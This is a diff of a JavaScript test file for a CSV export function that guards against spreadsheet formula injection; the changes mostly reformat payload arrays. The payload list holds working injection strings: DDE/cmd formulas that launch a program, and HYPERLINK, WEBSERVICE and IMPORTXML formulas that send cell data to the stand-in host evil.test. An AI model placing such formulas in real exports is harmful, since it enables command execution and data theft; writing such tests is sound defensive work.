@@ -45,10 +45,31 @@ const PAYLOADS = [
   ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '　=1+1'],
   ...["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3+cmd|" /C calc"!A0', "+cmd|'/c x'!'A1'"],
   ...['=HYPERLINK("http://evil.test?x="&A1,"click")', '=IMPORTXML(CONCAT("//evil.test",A2),"//a")'],
-  ...['=WEBSERVICE("http://evil.test/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", '=IMAGE("http://evil.test")'],
-  ...['＝1+1', '＋1', '－1', '＠SUM(1)', '﹦1', '−1+1', '\u200B=1', '\uFEFF=1', '\u202E=1', '\u3164=1', '\u2800=1'],
+  ...['=WEBSERVICE("http://evil.test/"&A1)', '=DDE("cmd";"/C calc";"x")', '=IMAGE("http://evil.test")'],
+  ...[
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(1)',
+    '﹦1',
+    '−1+1',
+    '\u200B=1',
+    '\uFEFF=1',
+    '\u202E=1',
+    '\u3164=1',
+    '\u2800=1',
+  ],
   ...['\u0301=1', '\u00AD=1', '\u2063=1', '\uFE0F=1', '\v=1', '\f=1', '\u0085=1', '\u2028=1'],
-  ...['good;=1+1', 'good; =1+1;', 'good\t=1+1', 'good\r\n=1+1', 'good\n- bad', 'x;"=1+1', 'x;"" =1+1', '";=1'],
+  ...[
+    'good;=1+1',
+    'good; =1+1;',
+    'good\t=1+1',
+    'good\r\n=1+1',
+    'good\n- bad',
+    'x;"=1+1',
+    'x;"" =1+1',
+    '";=1',
+  ],
   ...['","=1+1', '";"=1+1";"', '"\r\n=1+1', 'a"b;=1', "';=1", ';;=1', '; \t=1', '"";"";=1', '\n"=1'],
 ];
 const CHARACTERS = [...'=+-@;,"\' \t\r\na1', '\u200B', '＝', '\u00A0', '";', '","', '"\r\n', '=1'];
@@ -72,14 +93,25 @@ it.each(Object.entries(DIALECTS))('has no formula in any cell that %s reads', (_
 });
 
 it('keeps every text, and guards only what could be a formula', () => {
-  const texts = ['plain', 'a, b; c', 'say "no"', 'two\r\nlines', 'a - b = c', "it's", 'ünï 👍🏽', '5.0', 'x@y.test'];
+  const texts = [
+    'plain',
+    'a, b; c',
+    'say "no"',
+    'two\r\nlines',
+    'a - b = c',
+    "it's",
+    'ünï 👍🏽',
+    '5.0',
+    'x@y.test',
+  ];
   for (const text of texts) expect(guarded(text)).toBe(text);
   const whole = { separators: ',', reopens: false, trims: false };
   const all = [...texts, ...PAYLOADS];
   const line = csvLine(all);
   expect(line.endsWith('\r\n')).toBe(true);
   expect(cellsOf(line.slice(0, -2), whole)).toEqual(all.map(guarded));
-  for (const payload of PAYLOADS) expect(guarded(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
+  for (const payload of PAYLOADS)
+    expect(guarded(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
   expect(guarded('=1')).toBe("'=1");
   expect(guarded('\tx')).toBe("'\tx");
   expect(guarded('fine ;-)')).toBe("fine ;'-)");
